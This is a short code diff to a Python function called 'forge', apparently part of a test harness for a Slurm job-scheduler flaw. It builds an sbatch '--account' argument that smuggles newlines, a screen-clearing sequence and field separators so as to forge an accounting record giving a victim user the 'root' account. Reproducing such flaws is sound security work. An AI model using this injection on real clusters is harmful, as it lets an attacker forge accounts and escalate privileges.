@@ -48,8 +48,9 @@ def forge(consortium: Consortium, victim: int) -> subprocess.CompletedProcess[st
     It does so with the separator that was once between the fields.
     """
     number = str(victim)
-    fields = (number, number, "gamma", "root", "all", "normal", "1", "0", "1800000000", "1", "None")
-    account = f"x{CLEARS_THE_SCREEN}\n" + "\x1f".join((*fields, "\n")) + number
+    own = (number, number, "all", "normal", "1", "0", "1800000000", "1", "1:00", "1800000000")
+    forged = "\x1f".join(("|".join(own), "gamma", "root", "None", "\n"))
+    account = f"x{CLEARS_THE_SCREEN}\n{forged}{number}"
     submit = ["sbatch", "--parsable", f"--account={account}", "--output=/dev/null", "--wrap=true"]
     return as_nobody(consortium.cluster.environment, *submit)
 
